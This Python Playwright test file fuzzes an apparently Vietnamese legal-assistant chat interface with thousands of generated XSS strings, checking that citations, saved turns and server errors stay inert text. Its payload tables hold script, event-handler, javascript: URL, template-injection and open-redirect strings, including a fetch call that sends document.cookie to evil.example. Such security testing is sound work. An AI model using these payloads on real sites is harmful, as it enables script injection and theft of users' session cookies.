"""Five thousand hostile strings in every place where words of a document, a person or a server are shown."""

from __future__ import annotations

import itertools
import json
import math
import time
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import Page, Route, expect

from api.app import create_app
from api.testing import SampleAssistant

if TYPE_CHECKING:
    from tests.browser.conftest import Serve, Visit, Visitor

PAYLOADS = 5_000
BATCH = 500
CITATIONS = 20
IN_AN_ANSWER = CITATIONS * 11 + 31  # how many hostile strings `hostile_answer` uses up
_FOREIGN = ("//evil.example/x", "https://evil.example/x", "http://127.0.0.2:9/x", "\\\\evil.example\\x")
_CODE = ("alert(1)", "window.pwned=1", "fetch('https://evil.example/'+document.cookie)", "import('//evil.example/x')")
_TEMPLATES = (
    "<script>{code}</script>",
    "<ScRiPt>{code}</sCrIpT>",
    "</script><script>{code}</script>",
    "<svg onload={code}>",
    "<img src=x onerror={code}>",
    "<img src='{url}'>",
    "<iframe src='{url}'></iframe>",
    "<iframe srcdoc='<script>{code}</script>'>",
    "<body onload={code}>",
    "<a href='javascript:{code}'>x</a>",
    "[x](javascript:{code})",
    "![x]({url})",
    "[x]: {url}\n![x][x]",
    "<link rel=stylesheet href='{url}'>",
    "<style>@import '{url}';</style>",
    "<base href='{url}'>",
    "<meta http-equiv=refresh content='0;{url}'>",
    "<form action='{url}'><button>x</button></form>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<video src='{url}' onerror={code}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={code}>",
    "<details open ontoggle={code}>",
    "<marquee onstart={code}>",
    '" onmouseover="{code}',
    "' autofocus onfocus='{code}",
    "{{{{constructor.constructor('{code}')()}}}}",
    "${{{code}}}",
    "<%= {code} %>",
    "<template><script>{code}</script></template>",
    "<x is=script>{code}</x>",
    "<slot name=tools><script>{code}</script>",
    "<danvan-chat site='{url}'></danvan-chat>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
)
_URLS = (
    "javascript:{code}",
    "data:text/html,<script>{code}</script>",
    "{url}",
    "/documents/x/../../evil",
    "/documents/%2e%2e/%2e%2e/x",
    "/documents//evil.example",
    "/\\evil.example/documents/x",
    "//evil.example/documents/x",
    "https://evil.example/documents/x",
    "/documents/x?next={url}",
    "/documents/x#{code}",
    " /documents/x",
    "\t//evil.example",
    "/documents/x\n//evil.example",
    "vbscript:{code}",
)
_DISGUISES = (
    "{}",
    "\u202e{}",
    "\u200b{}\u200d",
    "{}" * 3,
    "“{}”",
    "[1] {} [2]",
    "{}\x00\x1b[31m",
    "&lt;{}&gt;",
    "%3C{}%3E",
    "\ufeff{}",
)


def payloads(count: int) -> list[str]:
    """Return that many different hostile strings: every template with every code, address and disguise, in turn."""
    found: dict[str, None] = {}
    for disguise, template, code, url in itertools.product(_DISGUISES, _TEMPLATES, _CODE, _FOREIGN):
        words = template.format(code=code, url=url)
        found[disguise.replace("{}", words)] = None
    for number in itertools.count():
        if len(found) >= count:
            break
        found[f"<img src=x onerror=alert({number})>"] = None
    return list(found)[:: max(1, len(found) // count)][:count]


def addresses() -> Iterator[str]:
    """Yield hostile addresses, again and again."""
    return itertools.cycle([a.format(code=c, url=u) for a in _URLS for c in _CODE for u in _FOREIGN])


def hostile_answer(words: Iterator[str], urls: Iterator[str]) -> dict[str, Any]:
    """Return an answer of which every string is hostile."""

    def cited(marker: int) -> dict[str, Any]:
        document = {
            "id": next(words), "title": next(words), "type": next(words), "number": next(words), "issuer": next(words),
            "locality": next(words), "issued_on": "2024-01-15", "year": 2024,
        }  # fmt: skip
        section = {"path": [next(words)], "label": next(words), "heading": next(words), "text": next(words)}
        quote = next(words)
        return {
            "marker": marker,
            "document": document,
            "section": section,
            "quote": quote,
            "start": 0,
            "end": 9,
            "url": next(urls),
        }

    citations = [cited(number) for number in range(1, CITATIONS + 1)]
    return {
        "id": "a-1", "status": "answered", "answer": "\n".join([*itertools.islice(words, 10), "Căn cứ [1] [2] [99]"]),
        "citations": citations, "related": [],
        "options": [{"label": next(words), "question": next(words)} for _ in range(5)],
        "notices": list(itertools.islice(words, 10)),
        "confidence": None, "mode": "extractive", "conversation_id": next(words), "timings_ms": {},
    }  # fmt: skip


_STATE = """() => {
    const root = document.querySelector("danvan-conversation").shadowRoot;
    const all = [...root.querySelectorAll("*"), ...document.querySelectorAll("*")];
    const own = new Set([
        "html head meta title link script body header nav main aside section article div span p a strong h1 h2 h3 h4",
        "ul ol li details summary fieldset legend form label input textarea button blockquote svg path slot",
        "danvan-conversation",
    ].join(" ").split(" "));
    return {
        strange: [...new Set(all.map((e) => e.localName).filter((name) => !own.has(name)))],
        handlers: all.flatMap((e) => e.getAttributeNames()).filter((name) => name.startsWith("on")),
        scripts: [...document.scripts].map((s) => s.src),
        links: [...new Set(all.filter((e) => e.href && e.localName === "a").map((e) => e.href))],
        frames: frames.length, pwned: window.pwned ?? null,
        shown: root.querySelector(".log").textContent,
    };
}"""


def assert_harmless(page: Page, url: str, scripts: list[str]) -> str:
    """Assert that words stayed words; return what is shown."""
    state = page.evaluate(_STATE)
    assert state["strange"] == []
    assert state["handlers"] == []
    assert state["scripts"] == scripts
    assert state["frames"] == 0
    assert state["pwned"] is None
    foreign = [
        link
        for link in state["links"]
        if not link.startswith((f"{url}/documents", f"{url}/#", f"{url}/?")) and link != f"{url}/"
    ]
    assert foreign == []
    return str(state["shown"])


@pytest.fixture
def visit(visitor: Visitor, serve: Serve) -> Visit:
    assistant = SampleAssistant()
    made = visitor(serve(create_app(assistant, assistant.documents, assistant.documents.readiness)))
    made.open("/").wait_for_load_state("networkidle")
    return made


def test_words_of_documents_never_become_anything_but_words(visit: Visit) -> None:
    page = visit.page
    hostile = payloads(PAYLOADS)
    assert len(set(hostile)) == PAYLOADS
    words, urls = itertools.cycle(hostile), addresses()
    scripts = page.evaluate("[...document.scripts].map((s) => s.src)")
    answers = [hostile_answer(words, urls) for _ in range(math.ceil(PAYLOADS / IN_AN_ANSWER))]
    turn = itertools.count()

    def fulfil(route: Route) -> None:
        final = json.dumps(answers[next(turn)], ensure_ascii=False)
        route.fulfill(status=200, content_type="text/event-stream", body=f"event: final\ndata: {final}\n\n")

    page.route("**/api/v1/ask/stream", fulfil)
    began = time.monotonic()
    for answer in answers:
        page.evaluate("() => document.querySelector('danvan-conversation').ask('Hỏi')")
        shown = assert_harmless(page, visit.url, scripts)
        for citation in answer["citations"]:
            assert citation["quote"] in shown
        for notice in answer["notices"]:
            assert notice in shown
        page.evaluate("() => document.querySelector('danvan-conversation').clear()")
    assert time.monotonic() - began < 60


def test_words_of_people_never_become_anything_but_words(visit: Visit) -> None:
    page = visit.page
    hostile = payloads(PAYLOADS)
    scripts = page.evaluate("[...document.scripts].map((s) => s.src)")
    visit.ask("Báo cáo nộp khi nào?")
    name = page.evaluate("sessionStorage.key(0)")
    answer = {
        "id": "a", "status": "refused", "answer": "", "citations": [], "related": [], "options": [], "notices": [],
        "conversation_id": "c",
    }  # fmt: skip
    for first in range(0, PAYLOADS, BATCH):
        part = hostile[first : first + BATCH]
        turns = [{"question": words, "answer": answer | {"answer": words}} for words in part]
        held = json.dumps({"conversationId": "c", "turns": turns})
        page.evaluate("([name, held]) => sessionStorage.setItem(name, held)", [name, held])
        page.reload()
        expect(page.locator(".turn")).to_have_count(len(part))
        shown = assert_harmless(page, visit.url, scripts)
        assert [words for words in part if words not in shown] == []


def test_hostile_words_of_a_server_stay_words_too(visit: Visit) -> None:
    page = visit.page
    scripts = page.evaluate("[...document.scripts].map((s) => s.src)")
    visit.expect_fault("status of 422")
    said = payloads(40)
    waiting = iter(said)

    def fulfil(route: Route) -> None:
        words = next(waiting)
        problem = {"detail": words, "title": words, "status": 422, "correlation_id": words}
        route.fulfill(status=422, body=json.dumps(problem), content_type="application/problem+json")

    page.route("**/api/v1/ask/stream", fulfil)
    for _ in said:
        page.evaluate("() => document.querySelector('danvan-conversation').ask('Hỏi')")
    assert page.locator(".complaint").all_text_contents() == said
    assert_harmless(page, visit.url, scripts)
